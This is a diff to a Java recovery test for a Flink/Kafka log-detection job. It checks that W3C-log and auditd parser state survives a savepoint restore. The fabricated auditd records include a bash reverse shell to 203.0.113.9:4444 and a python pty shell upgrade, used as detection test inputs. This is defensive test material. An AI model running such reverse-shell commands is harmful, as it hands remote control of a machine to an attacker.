@@ -77,13 +77,17 @@ class RecoveryTest {
     }
 
     private static StreamExecutionEnvironment job(String name, Configuration conf, String postgres) {
+        return job(name, conf, postgres, true);
+    }
+
+    private static StreamExecutionEnvironment job(String name, Configuration conf, String postgres, boolean bounded) {
         conf.set(RestartStrategyOptions.RESTART_STRATEGY, "fixed-delay");
         conf.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_ATTEMPTS, 5);
         conf.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_DELAY, Duration.ofMillis(200));
         StreamExecutionEnvironment env = h.env(2, conf);
         env.enableCheckpointing(300);
         VigilJob.builder().bootstrapServers(h.servers()).topics("vigil\\.logs\\." + name + "()").groupId(name)
-                .bounded(true).outOfOrderness(Duration.ofSeconds(5)).alertTopic("alerts-" + name)
+                .bounded(bounded).outOfOrderness(Duration.ofSeconds(5)).alertTopic("alerts-" + name)
                 .transactionalIdPrefix("tx-" + name).postgres(postgres).build().addTo(env);
         return env;
     }
@@ -109,7 +113,7 @@ class RecoveryTest {
      * A bounded Kafka source restored from a savepoint was seen not to end by itself here
      * (flink-connector-kafka 5.0.0-2.2), so the test does not wait for it to.
      */
-    private static void finish(JobClient job, String group, String topic) throws Exception {
+    static void finish(JobClient job, String group, String topic) throws Exception {
         long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(180);
         try (Admin admin = Admin.create(Map.of("bootstrap.servers", h.servers()))) {
             while (System.nanoTime() < deadline && !job.getJobStatus().get().isGloballyTerminalState()) {
@@ -193,5 +197,131 @@ class RecoveryTest {
         assertNoDuplicates(out);
         assertThat(JobHarness.latest(out)).isEqualTo(scan);
         assertThat(stored(db)).isEqualTo(scan);
+    }
+
+    /** Waits until the job's consumer group has committed the end of {@code topic} (a checkpoint took it all in). */
+    private static void awaitCaughtUp(String group, String topic, int partitions) throws Exception {
+        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(120);
+        try (Admin admin = Admin.create(Map.of("bootstrap.servers", h.servers()))) {
+            while (System.nanoTime() < deadline) {
+                Map<TopicPartition, OffsetAndMetadata> done = admin.listConsumerGroupOffsets(group)
+                        .partitionsToOffsetAndMetadata().get();
+                Map<TopicPartition, OffsetSpec> want = new HashMap<>();
+                for (int p = 0; p < partitions; p++) {
+                    want.put(new TopicPartition(topic, p), OffsetSpec.latest());
+                }
+                var end = admin.listOffsets(want).all().get();
+                if (end.entrySet().stream().allMatch(e -> done.get(e.getKey()) != null
+                        && done.get(e.getKey()).offset() >= e.getValue().offset())) {
+                    return;
+                }
+                Thread.sleep(100);
+            }
+        }
+        throw new AssertionError("the job did not take in " + topic + " in two minutes");
+    }
+
+    private static String hex(String s) {
+        StringBuilder b = new StringBuilder();
+        for (byte x : s.getBytes(StandardCharsets.UTF_8)) {
+            b.append(String.format("%02X", x));
+        }
+        return b.toString();
+    }
+
+    /** An execve seen by auditd, record by record, as one audit event (ending with its EOE). */
+    static List<String> auditRecord(long seconds, int serial, int pid, String exe, String... argv) {
+        String key = "msg=audit(" + seconds + ".000:" + serial + "): ";
+        StringBuilder execve = new StringBuilder("type=EXECVE " + key + "argc=" + argv.length);
+        for (int i = 0; i < argv.length; i++) {
+            execve.append(" a").append(i).append('=').append(hex(argv[i]));
+        }
+        return List.of("type=SYSCALL " + key + "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=900 pid=" + pid
+                        + " auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm=\"" + argv[0]
+                        + "\" exe=\"" + exe + "\" key=\"exec\"",
+                execve.toString(),
+                "type=CWD " + key + "cwd=\"/var/www/html\"",
+                "type=PROCTITLE " + key + "proctitle=" + hex(String.join("\u0000", argv)),
+                "type=EOE " + key);
+    }
+
+    /**
+     * The job stopped with a savepoint right after a W3C log's {@code #Fields:} header and before the
+     * lines it governs, and in the middle of an auditd record (SYSCALL and EXECVE read, CWD,
+     * PROCTITLE and EOE not yet), then restored: the parser state came back with each partition's
+     * offset, so the lines after the cut are read as a scan reads them and the alerts are a scan's.
+     */
+    @Test
+    void parserStateSurvivesARestoreBetweenAW3cHeaderAndItsLinesAndInsideAnAuditdRecord() throws Exception {
+        // the sample IIS log with the client address moved to the front: only its #Fields: header tells
+        // (a W3C parser that lost the header would take the IIS default order and misread every line)
+        List<String> w3c = new java.util.ArrayList<>();
+        for (String l : Files.readAllLines(Path.of("..", "samples", "iis", "u_ex261115.log"), StandardCharsets.UTF_8)) {
+            boolean fields = l.startsWith("#Fields: ");
+            if (l.startsWith("#") && !fields) {
+                w3c.add(l);
+                continue;
+            }
+            List<String> cols = new java.util.ArrayList<>(List.of((fields ? l.substring(9) : l).split(" ")));
+            int ip = 8; // c-ip in the sample's header
+            if (cols.size() > ip) {
+                cols.add(0, cols.remove(ip));
+            }
+            w3c.add((fields ? "#Fields: " : "") + String.join(" ", cols));
+        }
+        assertThat(w3c.stream().filter(l -> l.startsWith("#Fields: c-ip date time"))).isNotEmpty();
+        int w3cCut = 0;
+        while (!w3c.get(w3cCut).startsWith("#Fields:")) {
+            w3cCut++;
+        }
+        w3cCut++; // the header read, none of its lines
+        List<String> audit = new java.util.ArrayList<>(auditRecord(1_700_000_000L, 10, 4240, "/usr/bin/id", "id", "-a"));
+        int auditCut = audit.size() + 2; // SYSCALL and EXECVE of the next record read, the rest not
+        audit.addAll(auditRecord(1_700_000_001L, 11, 4241, "/usr/bin/bash", "bash", "-c",
+                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
+        audit.addAll(auditRecord(1_700_000_002L, 12, 4242, "/usr/bin/python3", "python3", "-c",
+                "import pty;pty.spawn(\"/bin/sh\")"));
+        Path iis = dir.resolve("u_ex261115.log");
+        Path auditLog = dir.resolve("audit.log");
+        Files.write(iis, w3c, StandardCharsets.UTF_8);
+        Files.write(auditLog, audit, StandardCharsets.UTF_8);
+        Map<String, Figures> expected = JobHarness.scan(List.of(iis, auditLog));
+        assertThat(JobHarness.scan(List.of(auditLog))).as("alerts from the auditd record cut in two").isNotEmpty();
+
+        String topic = "vigil.logs.parserstate";
+        h.createTopic(topic, 2);
+        h.createTopic("alerts-parserstate", 2);
+        java.util.function.BiFunction<Integer, Integer, List<ProducerRecord<byte[], byte[]>>> part = (from, to) -> {
+            List<ProducerRecord<byte[], byte[]>> out = new java.util.ArrayList<>();
+            for (int i = from; i < Math.min(to, w3c.size()); i++) {
+                ProducerRecord<byte[], byte[]> e = JobHarness.envelope(topic, iis.toString(), i + 1, "w3c", w3c.get(i));
+                out.add(new ProducerRecord<>(topic, 0, e.key(), e.value()));
+            }
+            return out;
+        };
+        java.util.function.BiFunction<Integer, Integer, List<ProducerRecord<byte[], byte[]>>> auditPart = (from, to) -> {
+            List<ProducerRecord<byte[], byte[]>> out = new java.util.ArrayList<>();
+            for (int i = from; i < Math.min(to, audit.size()); i++) {
+                ProducerRecord<byte[], byte[]> e = JobHarness.envelope(topic, auditLog.toString(), i + 1, "auditd",
+                        audit.get(i));
+                out.add(new ProducerRecord<>(topic, 1, e.key(), e.value()));
+            }
+            return out;
+        };
+        List<ProducerRecord<byte[], byte[]>> first = new java.util.ArrayList<>(part.apply(0, w3cCut));
+        first.addAll(auditPart.apply(0, auditCut));
+        h.produce(first);
+        JobClient job = job("parserstate", new Configuration(), null, false).executeAsync("parserstate-1");
+        awaitCaughtUp("parserstate", topic, 2);
+        String savepoint = job.stopWithSavepoint(false, dir.resolve("savepoints-parser").toUri().toString(),
+                SavepointFormatType.CANONICAL).get(120, TimeUnit.SECONDS);
+
+        List<ProducerRecord<byte[], byte[]>> rest = new java.util.ArrayList<>(part.apply(w3cCut, Integer.MAX_VALUE));
+        rest.addAll(auditPart.apply(auditCut, Integer.MAX_VALUE));
+        h.produce(rest);
+        Configuration restore = new Configuration();
+        restore.set(StateRecoveryOptions.SAVEPOINT_PATH, savepoint);
+        finish(job("parserstate", restore, null, false).executeAsync("parserstate-2"), "parserstate", topic);
+        assertThat(JobHarness.latest(h.readCommitted("alerts-parserstate"))).isEqualTo(expected);
     }
 }
